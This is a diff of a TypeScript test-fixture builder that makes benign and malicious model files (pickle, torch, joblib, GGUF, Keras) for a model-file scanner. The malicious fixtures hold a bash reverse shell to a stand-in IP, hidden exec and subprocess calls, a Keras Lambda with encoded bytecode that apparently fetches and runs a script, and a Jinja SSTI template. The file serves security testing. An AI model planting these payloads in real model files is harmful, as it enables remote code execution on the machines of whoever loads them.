@@ -57,31 +57,165 @@ function kerasConfig(lambda: boolean): string {
       class_name: 'Lambda',
       config: {
         name: 'exfil',
-        function: { class_name: '__lambda__', config: { code: '4wEAAAAAAAAAAAAAAAEAAAADAAAAQwAAAHMKAAAAdABkAYMBAQB8AFMAKQJOeg9jdXJsIGV2aWwuc2ggfCBzaKkB2gRleGVjqQHaAXipAHIEAAAA', defaults: null, closure: null } },
+        function: {
+          class_name: '__lambda__',
+          config: {
+            code: '4wEAAAAAAAAAAAAAAAEAAAADAAAAQwAAAHMKAAAAdABkAYMBAQB8AFMAKQJOeg9jdXJsIGV2aWwuc2ggfCBzaKkB2gRleGVjqQHaAXipAHIEAAAA',
+            defaults: null,
+            closure: null,
+          },
+        },
       },
     });
   return JSON.stringify({ module: 'keras', class_name: 'Sequential', config: { name: 'seq', layers } });
 }
 
 /** The files of the sample set, relative path -> bytes and expectation. */
-function sampleFiles(): { rel: string; bytes: Uint8Array | string; expect: Sample['expect']; what: string }[] {
+function sampleFiles(): {
+  rel: string;
+  bytes: Uint8Array | string;
+  expect: Sample['expect'];
+  what: string;
+}[] {
   return [
-    { rel: 'benign/bert-tiny/pytorch_model.bin', bytes: torchZip('pytorch_model', torchStateDictPickle({ tensors: 2 })), expect: 'pass', what: 'PyTorch zip checkpoint (state_dict of rebuilt tensors)' },
-    { rel: 'benign/bert-tiny/model.safetensors', bytes: buildSafetensors([{ name: 'layers.0.weight', dtype: 'F32', shape: [4, 3] }, { name: 'layers.1.weight', dtype: 'F32', shape: [5, 3] }], { format: 'pt' }), expect: 'pass', what: 'safetensors weights' },
-    { rel: 'benign/bert-tiny/tokenizer_config.json', bytes: JSON.stringify({ model_max_length: 512, chat_template: CHATML }, null, 2), expect: 'pass', what: 'tokenizer config with a ChatML template' },
-    { rel: 'benign/bert-tiny/config.json', bytes: JSON.stringify({ architectures: ['BertModel'], hidden_size: 128, num_attention_heads: 2 }), expect: 'pass', what: 'model config' },
-    { rel: 'benign/sklearn/classifier.joblib', bytes: gzipSync(joblibPickle([{ shape: [3, 4], dtype: 'f8' }, { shape: [3], dtype: 'i8' }])), expect: 'pass', what: 'gzip-compressed joblib dump with raw array bytes' },
-    { rel: 'benign/numpy/embeddings.npy', bytes: npy([4, 3], floats(12)), expect: 'pass', what: 'NumPy float array' },
-    { rel: 'benign/llama/tiny-chat.gguf', bytes: buildGguf([['general.architecture', { type: 'string', value: 'llama' }], ['tokenizer.chat_template', { type: 'string', value: CHATML }]], [{ name: 'token_embd.weight', dims: [4, 8], type: 0, offset: 0, bytes: 128 }]), expect: 'pass', what: 'GGUF with a ChatML chat template' },
-    { rel: 'benign/keras/dense.keras', bytes: buildZip([{ name: 'config.json', data: kerasConfig(false) }, { name: 'metadata.json', data: '{"keras_version": "3.6.0"}' }]), expect: 'pass', what: 'Keras v3 archive, Dense layers only' },
-    { rel: 'malicious/pickle/reverse-shell.pkl', bytes: callPickle('os', 'system', ['bash -c "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"']), expect: 'fail', what: 'os.system reverse shell in a plain pickle' },
-    { rel: 'malicious/torch/trojan.pt', bytes: torchZip('trojan', torchStateDictPickle({ tensors: 2, extra: ['_hook', py.call('builtins', 'exec', ["import os; os.system('id')"])] })), expect: 'fail', what: 'real-looking torch checkpoint with builtins.exec hidden among tensors' },
-    { rel: 'malicious/pickle/stacked-streams.pkl', bytes: Buffer.concat([picklePy(py.dict({ epoch: 3 })), callPickle('subprocess', 'Popen', [['sh', '-c', 'id']])]), expect: 'fail', what: 'benign first stream, subprocess.Popen in the second' },
-    { rel: 'malicious/pickle/nested-loads.pkl', bytes: callPickle('pickle', 'loads', [callPickle('posix', 'system', ['id'])]), expect: 'fail', what: 'pickle.loads of an embedded malicious pickle' },
-    { rel: 'malicious/joblib/pipeline.joblib', bytes: deflateSync(joblibPickle([{ shape: [2, 2], dtype: 'f8' }], { trailer: py.call('runpy', '_run_code', ['import os', py.dict({})]) })), expect: 'fail', what: 'zlib joblib dump whose trailer calls runpy._run_code' },
-    { rel: 'malicious/gguf/chat-template-ssti.gguf', bytes: buildGguf([['general.architecture', { type: 'string', value: 'llama' }], ['tokenizer.chat_template', { type: 'string', value: SSTI }]], [{ name: 'token_embd.weight', dims: [4, 8], type: 0, offset: 0, bytes: 128 }]), expect: 'fail', what: 'GGUF chat template with a Jinja SSTI gadget (CVE-2024-34359 class)' },
-    { rel: 'malicious/keras/lambda.keras', bytes: buildZip([{ name: 'config.json', data: kerasConfig(true) }, { name: 'metadata.json', data: '{"keras_version": "3.6.0"}' }]), expect: 'fail', what: 'Keras archive with a Lambda layer (marshalled bytecode)' },
-    { rel: 'malicious/archives/weights.7z', bytes: Buffer.concat([Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4]), Buffer.alloc(56, 0x11)]), expect: 'fail', what: '7z archive: cannot be inspected, so it is never passed silently' },
+    {
+      rel: 'benign/bert-tiny/pytorch_model.bin',
+      bytes: torchZip('pytorch_model', torchStateDictPickle({ tensors: 2 })),
+      expect: 'pass',
+      what: 'PyTorch zip checkpoint (state_dict of rebuilt tensors)',
+    },
+    {
+      rel: 'benign/bert-tiny/model.safetensors',
+      bytes: buildSafetensors(
+        [
+          { name: 'layers.0.weight', dtype: 'F32', shape: [4, 3] },
+          { name: 'layers.1.weight', dtype: 'F32', shape: [5, 3] },
+        ],
+        { format: 'pt' },
+      ),
+      expect: 'pass',
+      what: 'safetensors weights',
+    },
+    {
+      rel: 'benign/bert-tiny/tokenizer_config.json',
+      bytes: JSON.stringify({ model_max_length: 512, chat_template: CHATML }, null, 2),
+      expect: 'pass',
+      what: 'tokenizer config with a ChatML template',
+    },
+    {
+      rel: 'benign/bert-tiny/config.json',
+      bytes: JSON.stringify({ architectures: ['BertModel'], hidden_size: 128, num_attention_heads: 2 }),
+      expect: 'pass',
+      what: 'model config',
+    },
+    {
+      rel: 'benign/sklearn/classifier.joblib',
+      bytes: gzipSync(
+        joblibPickle([
+          { shape: [3, 4], dtype: 'f8' },
+          { shape: [3], dtype: 'i8' },
+        ]),
+      ),
+      expect: 'pass',
+      what: 'gzip-compressed joblib dump with raw array bytes',
+    },
+    {
+      rel: 'benign/numpy/embeddings.npy',
+      bytes: npy([4, 3], floats(12)),
+      expect: 'pass',
+      what: 'NumPy float array',
+    },
+    {
+      rel: 'benign/llama/tiny-chat.gguf',
+      bytes: buildGguf(
+        [
+          ['general.architecture', { type: 'string', value: 'llama' }],
+          ['tokenizer.chat_template', { type: 'string', value: CHATML }],
+        ],
+        [{ name: 'token_embd.weight', dims: [4, 8], type: 0, offset: 0, bytes: 128 }],
+      ),
+      expect: 'pass',
+      what: 'GGUF with a ChatML chat template',
+    },
+    {
+      rel: 'benign/keras/dense.keras',
+      bytes: buildZip([
+        { name: 'config.json', data: kerasConfig(false) },
+        { name: 'metadata.json', data: '{"keras_version": "3.6.0"}' },
+      ]),
+      expect: 'pass',
+      what: 'Keras v3 archive, Dense layers only',
+    },
+    {
+      rel: 'malicious/pickle/reverse-shell.pkl',
+      bytes: callPickle('os', 'system', ['bash -c "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"']),
+      expect: 'fail',
+      what: 'os.system reverse shell in a plain pickle',
+    },
+    {
+      rel: 'malicious/torch/trojan.pt',
+      bytes: torchZip(
+        'trojan',
+        torchStateDictPickle({
+          tensors: 2,
+          extra: ['_hook', py.call('builtins', 'exec', ["import os; os.system('id')"])],
+        }),
+      ),
+      expect: 'fail',
+      what: 'real-looking torch checkpoint with builtins.exec hidden among tensors',
+    },
+    {
+      rel: 'malicious/pickle/stacked-streams.pkl',
+      bytes: Buffer.concat([
+        picklePy(py.dict({ epoch: 3 })),
+        callPickle('subprocess', 'Popen', [['sh', '-c', 'id']]),
+      ]),
+      expect: 'fail',
+      what: 'benign first stream, subprocess.Popen in the second',
+    },
+    {
+      rel: 'malicious/pickle/nested-loads.pkl',
+      bytes: callPickle('pickle', 'loads', [callPickle('posix', 'system', ['id'])]),
+      expect: 'fail',
+      what: 'pickle.loads of an embedded malicious pickle',
+    },
+    {
+      rel: 'malicious/joblib/pipeline.joblib',
+      bytes: deflateSync(
+        joblibPickle([{ shape: [2, 2], dtype: 'f8' }], {
+          trailer: py.call('runpy', '_run_code', ['import os', py.dict({})]),
+        }),
+      ),
+      expect: 'fail',
+      what: 'zlib joblib dump whose trailer calls runpy._run_code',
+    },
+    {
+      rel: 'malicious/gguf/chat-template-ssti.gguf',
+      bytes: buildGguf(
+        [
+          ['general.architecture', { type: 'string', value: 'llama' }],
+          ['tokenizer.chat_template', { type: 'string', value: SSTI }],
+        ],
+        [{ name: 'token_embd.weight', dims: [4, 8], type: 0, offset: 0, bytes: 128 }],
+      ),
+      expect: 'fail',
+      what: 'GGUF chat template with a Jinja SSTI gadget (CVE-2024-34359 class)',
+    },
+    {
+      rel: 'malicious/keras/lambda.keras',
+      bytes: buildZip([
+        { name: 'config.json', data: kerasConfig(true) },
+        { name: 'metadata.json', data: '{"keras_version": "3.6.0"}' },
+      ]),
+      expect: 'fail',
+      what: 'Keras archive with a Lambda layer (marshalled bytecode)',
+    },
+    {
+      rel: 'malicious/archives/weights.7z',
+      bytes: Buffer.concat([Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4]), Buffer.alloc(56, 0x11)]),
+      expect: 'fail',
+      what: '7z archive: cannot be inspected, so it is never passed silently',
+    },
   ];
 }
 
